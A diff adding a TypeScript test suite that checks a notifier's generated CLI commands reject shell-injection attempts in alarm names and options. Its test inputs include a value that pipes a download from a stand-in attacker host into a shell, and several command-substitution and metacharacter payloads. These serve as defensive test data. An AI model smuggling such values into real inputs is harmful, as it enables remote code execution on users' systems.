@@ -5,6 +5,7 @@ import { slackMessage } from '../../../lambdas/notifier/channels/slack.ts';
 import { teamsMessage } from '../../../lambdas/notifier/channels/teams.ts';
 import { webhookRequest } from '../../../lambdas/notifier/channels/webhook.ts';
 import { cleanName, cleanText } from '../../../lambdas/notifier/clean.ts';
+import { commandsOf } from '../../../lambdas/notifier/commands.ts';
 import { compose } from '../../../lambdas/notifier/compose.ts';
 import { text } from '../../../lambdas/notifier/text.ts';
 import { partsIn, secretsToPlant } from '../../support/plantedSecrets.ts';
@@ -145,6 +146,39 @@ describe('names that clients choose', () => {
       expect(shown.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
       expect(JSON.parse(webhook).data.text).toBe(shown);
     }
+  });
+});
+
+describe('commands', () => {
+  const shown = { isResolved: false, look: 'logs --status 401', rangeMs: 300_000 };
+  const target = { name: 'Docs-1', options: '--stack Docs --region eu-west-1' };
+  const hostile = ['x; curl evil.example|sh #', '$(id)', '`id`', "x' y", 'x\ny', '\u202ex', '--data', 'x&y', 'x>y', ''];
+
+  it('name an alarm only where a shell acts on nothing in its name', () => {
+    const [own] = commandsOf(target, { ...shown, alarm: 'Docs-1-failed-logins' });
+    expect(own).toBe('npx secure-api alarms failed-logins --stack Docs --region eu-west-1');
+    for (const name of hostile) {
+      const commands = commandsOf(target, { ...shown, alarm: `Docs-1-${name}` });
+      expect(
+        commands.filter((command) => command.includes(' alarms')),
+        name,
+      ).toEqual([]);
+      expect(commands).toHaveLength(2);
+    }
+  });
+
+  it('have no option and no look on which a shell acts', () => {
+    const alarm = 'Docs-1-failed-logins';
+    for (const name of hostile) {
+      for (const option of ['stack', 'region', 'api', 'data']) {
+        const options = `--stack Docs --${option} ${name}`;
+        expect(commandsOf({ ...target, options }, { ...shown, alarm }), options).toEqual([]);
+        expect(commandsOf({ ...target, options }, { ...shown, alarm, isResolved: true }), options).toEqual([]);
+      }
+      expect(commandsOf(target, { ...shown, alarm, look: `logs ${name};` })).toHaveLength(2);
+    }
+    for (const options of ['', '--data ../a/b', "--data '/a b/it'\\''s $(x)'", '--api Docs-1 --data /tmp/x'])
+      expect(commandsOf({ ...target, options }, { ...shown, alarm }), options).toHaveLength(3);
   });
 });
 
